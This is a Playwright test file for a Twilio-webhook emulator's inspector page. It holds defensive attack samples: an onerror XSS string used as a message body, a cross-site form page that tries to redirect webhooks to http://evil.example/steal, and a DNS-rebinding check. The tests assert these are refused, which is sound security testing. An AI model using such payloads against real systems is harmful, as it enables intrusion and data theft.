"""The inspector page in a real headless Chromium: rows appear live, a delivery opens on
its signed request and attempts, replay adds an attempt, filters narrow the list.

Needs Playwright for Python and Debian's ``chromium`` (``.ci/run`` installs both); skipped
without them. Set ``HOOKLINE_INSPECTOR_SCREENSHOTS=/some/dir`` to keep screenshots.
"""

from __future__ import annotations

import os
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from hookline.testing import HooklineServer, WebhookReceiver

CHROMIUM = "/usr/bin/chromium"
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
WAIT_MS = 15_000  # generous: the page polls every second, the machine may be busy
ON = "true"

sync_api = pytest.importorskip("playwright.sync_api")
if not shutil.which(CHROMIUM):
    pytest.skip(f"{CHROMIUM} is not installed (.ci/run installs it)", allow_module_level=True)


@pytest.fixture
def page(hookline_server: HooklineServer) -> Iterator[Any]:
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        context = browser.new_context(
            base_url=hookline_server.base_url,
            http_credentials={
                "username": hookline_server.account_sid,
                "password": hookline_server.auth_token,
            },
            viewport={"width": 1400, "height": 900},
        )
        page = context.new_page()
        errors: list[str] = []
        page.on("pageerror", lambda error: errors.append(str(error)))
        page.on("requestfailed", lambda request: errors.append(f"failed: {request.url}"))
        yield page
        seen = list(errors)  # closing aborts the page's polls; those are not errors
        browser.close()
        assert not seen, seen


def screenshot(page: Any, name: str) -> None:
    directory = os.environ.get("HOOKLINE_INSPECTOR_SCREENSHOTS")
    if directory:
        page.screenshot(path=str(Path(directory) / f"{name}.png"), full_page=True)


def deliveries(server: HooklineServer, **params: str) -> list[dict[str, Any]]:
    return list(server.request("GET", "/_hookline/deliveries", params)["deliveries"])


def test_page_needs_the_account_credentials(hookline_server: HooklineServer) -> None:
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        context = browser.new_context(
            http_credentials={"username": hookline_server.account_sid, "password": "wrong"}
        )
        response = context.new_page().goto(hookline_server.base_url + "/_hookline/ui")
        assert response is not None and response.status == 401
        browser.close()


def test_live_rows_signed_request_replay_and_filters(
    page: Any, hookline_server: HooklineServer, webhook_receiver: WebhookReceiver
) -> None:
    sdk = hookline_server.client
    sdk.conversations.v1.configuration.webhooks().update(
        filters=["onConversationAdded", "onMessageAdded"],
        post_webhook_url=webhook_receiver.url("/hook"),
        method="POST",
    )
    webhook_receiver.respond("/hook", 200, "ok")
    webhook_receiver.respond("/hook", 503, "busy", times=1)  # the first event's only answer

    response = page.goto("/_hookline/ui")
    assert response.status == 200
    assert "default-src 'none'" in response.headers["content-security-policy"]
    page.wait_for_selector("#live[data-state=live]", timeout=WAIT_MS)
    page.evaluate("window.loadedOnce = true")  # gone if the page reloads
    screenshot(page, "inspector-empty")

    # Events happen while the page is open: the rows come without a reload.
    conversation = sdk.conversations.v1.conversations.create(
        friendly_name="<b>not bold</b>", x_twilio_webhook_enabled=ON
    )
    (first,) = webhook_receiver.wait_for(1, path="/hook")  # answered 503
    assert first.event_type == "onConversationAdded" and first.signature_valid
    conversation.messages.create(
        body="<img src=x onerror=alert(1)> [b]hi", author="alice", x_twilio_webhook_enabled=ON
    )
    second = webhook_receiver.wait_for(2, path="/hook")[1]
    assert second.event_type == "onMessageAdded"
    (message,) = deliveries(hookline_server, EventType="onMessageAdded")
    row = page.wait_for_selector(
        f'[data-delivery-sid="{message["sid"]}"][data-status=delivered]', timeout=WAIT_MS
    )
    assert page.evaluate("window.loadedOnce") is True
    assert "onMessageAdded" in row.inner_text()
    assert webhook_receiver.url("/hook") in row.inner_text()
    page.wait_for_selector("#deliveries tr[data-delivery-sid]:nth-child(2)", timeout=WAIT_MS)
    newest_first = page.eval_on_selector_all(
        "#deliveries [data-delivery-sid]", "rows => rows.map(r => r.dataset.deliverySid)"
    )
    assert newest_first[0] == message["sid"]
    assert page.eval_on_selector_all("img", "images => images.length") == 0
    screenshot(page, "inspector-list")

    # Opening it shows the signed request as sent, and the attempt's response.
    row.click()
    detail = page.wait_for_selector("#detail [data-attempt='1']", timeout=WAIT_MS)
    assert detail is not None
    text = page.inner_text("#detail")
    assert "X-Twilio-Signature" in text and second.headers["X-Twilio-Signature"] in text
    assert second.headers["I-Twilio-Idempotency-Token"] in text
    assert "<img src=x onerror=alert(1)> [b]hi" in text  # the body as text, not markup
    assert "HTTP 200" in page.inner_text("#detail [data-attempt='1']")
    screenshot(page, "inspector-detail")

    # Replay: the same request again, same idempotency token; the page shows attempt 2.
    page.click("#detail [data-action=replay]")
    page.wait_for_selector("#detail [data-attempt='2']", timeout=WAIT_MS)
    replayed = webhook_receiver.wait_for(3, path="/hook")[2]
    assert replayed.signature_valid and replayed.params["RetryCount"] == "1"
    assert replayed.params | {"RetryCount": "0"} == second.params
    token = "I-Twilio-Idempotency-Token"
    assert replayed.headers[token] == second.headers[token]
    screenshot(page, "inspector-replayed")

    # Filters: by event type, and by status (the 503'd conversation event is not delivered).
    page.select_option("#filter-event-type", "onConversationAdded")
    page.wait_for_selector(f'[data-delivery-sid="{message["sid"]}"]', state="detached")
    (added,) = deliveries(hookline_server, EventType="onConversationAdded")
    settled = f'[data-delivery-sid="{added["sid"]}"][data-attempts="1"]:not([data-status=sending])'
    status = page.wait_for_selector(settled, timeout=WAIT_MS).get_attribute("data-status")
    assert status != "delivered"
    page.select_option("#filter-event-type", "")
    page.select_option("#filter-status", "delivered")
    page.wait_for_selector(f'[data-delivery-sid="{added["sid"]}"]', state="detached")
    assert page.query_selector(f'[data-delivery-sid="{message["sid"]}"]') is not None
    page.select_option("#filter-status", status)
    page.wait_for_selector(f'[data-delivery-sid="{added["sid"]}"]', timeout=WAIT_MS)
    page.wait_for_selector(f'[data-delivery-sid="{message["sid"]}"]', state="detached")
    screenshot(page, "inspector-filtered")

    # The events tab lists the events themselves, newest first.
    page.click("[data-tab=events]")
    first_event = page.wait_for_selector("#events tr[data-event-sid]", timeout=WAIT_MS)
    assert "onMessageAdded" in first_event.inner_text()
    first_event.click()
    page.wait_for_selector("#detail [data-open-delivery]", timeout=WAIT_MS)
    screenshot(page, "inspector-events")


def overflowing(page: Any) -> list[str]:
    """The page's parts wider than the room they have (a horizontal scroll bar)."""
    return list(
        page.evaluate(
            """() => {
              const wide = [];
              const root = document.documentElement;
              if (root.scrollWidth > root.clientWidth) wide.push(`page ${root.scrollWidth}`);
              for (const id of ["deliveries-pane", "events-pane", "detail"]) {
                const node = document.getElementById(id);
                if (!node.hidden && node.scrollWidth > node.clientWidth + 1) {
                  wide.push(`${id} ${node.scrollWidth} > ${node.clientWidth}`);
                }
              }
              return wide;
            }"""
        )
    )


def test_rejected_pre_event_events_tab_layout_and_favicon(
    page: Any, hookline_server: HooklineServer, webhook_receiver: WebhookReceiver
) -> None:
    from twilio.base.exceptions import TwilioRestException

    sdk = hookline_server.client
    sdk.conversations.v1.configuration.webhooks().update(
        filters=["onMessageAdd", "onConversationStateUpdated", "onParticipantAdded"],
        pre_webhook_url=webhook_receiver.url("/pre"),
        post_webhook_url=webhook_receiver.url("/post-event-receiver/with/a/long/path"),
        method="POST",
    )
    webhook_receiver.respond("/pre", 403, {"reason": "spam is not welcome here"})
    conversation = sdk.conversations.v1.conversations.create(friendly_name="layout")
    conversation.participants.create(identity="a-participant", x_twilio_webhook_enabled=ON)
    conversation.update(state="inactive", x_twilio_webhook_enabled=ON)
    with pytest.raises(TwilioRestException) as refused:
        conversation.messages.create(body="buy now", author="bob", x_twilio_webhook_enabled=ON)
    assert refused.value.status == 403
    (pre,) = deliveries(hookline_server, EventType="onMessageAdd")
    assert (pre["target"], pre["status"], pre["last_status"]) == ("pre", "rejected", 403)

    # The server refuses to resend a pre-event call, with a reason.
    with pytest.raises(RuntimeError) as no_resend:
        hookline_server.request("POST", f"/_hookline/deliveries/{pre['sid']}/Resend")
    assert "400" in str(no_resend.value) and "pre-event" in str(no_resend.value)

    answers: list[tuple[int, str]] = []
    page.on("response", lambda response: answers.append((response.status, response.url)))
    page.set_viewport_size({"width": 1280, "height": 800})
    page.goto("/_hookline/ui")
    page.wait_for_selector("#live[data-state=live]", timeout=WAIT_MS)
    row = page.wait_for_selector(
        f'[data-delivery-sid="{pre["sid"]}"][data-status=rejected]', timeout=WAIT_MS
    )
    assert "rejected · 403" in row.inner_text()
    colour = page.eval_on_selector(
        f'[data-delivery-sid="{pre["sid"]}"] .badge', "b => getComputedStyle(b).color"
    )
    failed_red = "rgb(179, 38, 30)"  # --bad, the colour of a failed delivery
    assert colour != failed_red

    row.click()
    page.wait_for_selector("#detail [data-pre-event]", timeout=WAIT_MS)
    detail = page.inner_text("#detail")
    assert "Receiver's answer" in detail
    assert 'HTTP 403 · {"reason": "spam is not welcome here"}' in detail
    assert "Last error" not in detail and "failed" not in detail
    assert page.query_selector("#detail [data-action=replay]") is None
    attempt_colour = page.eval_on_selector(
        "#detail [data-attempt='1'] .badge", "b => getComputedStyle(b).color"
    )
    assert attempt_colour != failed_red
    assert overflowing(page) == []
    screenshot(page, "inspector-rejected-1280")

    # A post-event still offers Replay.
    (post,) = deliveries(hookline_server, EventType="onConversationStateUpdated")
    page.click(f'[data-delivery-sid="{post["sid"]}"]')
    page.wait_for_selector("#detail [data-action=replay]", timeout=WAIT_MS)
    assert page.query_selector("#detail [data-pre-event]") is None

    # The events tab starts without the delivery's detail, and fits at 1280 and 1920 px.
    page.click("[data-tab=events]")
    page.wait_for_selector("#events tr[data-event-sid]", timeout=WAIT_MS)
    detail = page.inner_text("#detail")
    assert post["sid"] not in detail and "Select an event" in detail
    assert page.query_selector("tr.selected") is None
    for width in (1280, 1920):
        page.set_viewport_size({"width": width, "height": 900})
        page.wait_for_selector("#events tr[data-event-sid]", timeout=WAIT_MS)
        assert overflowing(page) == [], width
        screenshot(page, f"inspector-events-{width}")
    state = page.wait_for_selector(
        "#events tr[data-event-sid]:has-text('onConversationStateUpdated')", timeout=WAIT_MS
    )
    state.click()
    page.wait_for_selector("#detail [data-open-delivery]", timeout=WAIT_MS)
    assert overflowing(page) == []
    screenshot(page, "inspector-event-detail-1920")
    page.set_viewport_size({"width": 1280, "height": 900})
    assert overflowing(page) == []
    screenshot(page, "inspector-event-detail-1280")

    # The favicon: the page's icon and /favicon.ico answer, nothing on the page was a 4xx.
    icon = page.request.get("/favicon.ico")
    assert icon.status == 200 and icon.headers["content-type"] == "image/x-icon"
    assert icon.body()[:4] == b"\x00\x00\x01\x00"  # an ICO file
    assert page.eval_on_selector("link[rel=icon]", "l => l.href").endswith("favicon.svg")
    assert not [answer for answer in answers if answer[0] >= 400], answers


def test_endpoints_tab_shows_a_hanging_urls_slots(
    page: Any, hookline_server: HooklineServer
) -> None:
    from tests.support.bad_receiver import BadReceiver

    bad = BadReceiver()
    try:
        hang = bad.base + "/hang?conv=slow"
        hookline_server.client.conversations.v1.configuration.webhooks().update(
            filters=["onConversationAdded"], post_webhook_url=hang, method="POST"
        )
        hookline_server.client.conversations.v1.conversations.create(x_twilio_webhook_enabled=ON)
        bad.wait("the hanging receiver got the request", lambda: bad.seen("arrived", "/hang"))
        listing = hookline_server.request("GET", "/_hookline/endpoints")
        assert listing["worker"] == "here"
        assert {"url": hang, "in_flight": 1, "slots": 2, "healthy": False} in listing["endpoints"]
        page.goto("/_hookline/ui")
        page.click("[data-tab=endpoints]")
        row = page.wait_for_selector(
            f'#endpoints [data-endpoint-url="{hang}"][data-healthy=false]', timeout=WAIT_MS
        )
        assert row.inner_text().split("\t")[1:] == ["1", "2", "slow or new"]
        screenshot(page, "inspector-endpoints")
    finally:
        bad.close()


def test_another_site_cannot_act_through_the_signed_in_browser(
    page: Any, hookline_server: HooklineServer
) -> None:
    """The user has the inspector open (the browser holds hookline's credentials), then
    visits a page of another site that submits forms to hookline: both are refused, the
    data stays. The page is served by Playwright's router at http://evil.example/."""
    conversation = hookline_server.client.conversations.v1.conversations.create(
        friendly_name="keep me"
    )
    page.goto("/_hookline/ui")
    page.wait_for_selector("#live[data-state=live]", timeout=WAIT_MS)
    hook = "http://evil.example/steal"
    html = f"""<!doctype html><body>
      <form id=reset method=post action="{hookline_server.base_url}/_hookline/reset"></form>
      <form id=hooks method=post action="{hookline_server.base_url}/v1/Configuration/Webhooks">
        <input name=PostWebhookUrl value="{hook}"><input name=Filters value=onMessageAdded>
      </form></body>"""
    page.context.route(
        "http://evil.example/**", lambda route: route.fulfill(body=html, content_type="text/html")
    )
    for form in ("reset", "hooks"):
        page.goto("http://evil.example/")
        with page.expect_response(lambda r: r.request.method == "POST") as answer:
            page.evaluate(f"document.getElementById('{form}').submit()")
        response = answer.value
        assert response.status == 403, response.text()
        assert response.json()["code"] == 20403
        assert response.request.headers.get("origin") == "http://evil.example"
    assert hookline_server.request("GET", f"/v1/Conversations/{conversation.sid}")["sid"]
    webhooks = hookline_server.request("GET", "/v1/Configuration/Webhooks")
    assert webhooks["post_webhook_url"] != hook


def test_a_rebound_name_is_not_served(hookline_server: HooklineServer) -> None:
    """DNS rebinding: a name the attacker controls resolving to hookline's address."""
    port = hookline_server.base_url.rsplit(":", 1)[1]
    rules = "--host-resolver-rules=MAP rebind.evil.example 127.0.0.1"
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=[*CHROMIUM_ARGS, rules])
        context = browser.new_context(
            http_credentials={
                "username": hookline_server.account_sid,
                "password": hookline_server.auth_token,
            }
        )
        page = context.new_page()
        response = page.goto(f"http://rebind.evil.example:{port}/_hookline/ui")
        assert response is not None and response.status == 403
        assert response.json()["code"] == 20403
        # The same browser, through the server's own name, gets the page.
        own = page.goto(f"{hookline_server.base_url}/_hookline/ui")
        assert own is not None and own.status == 200
        browser.close()
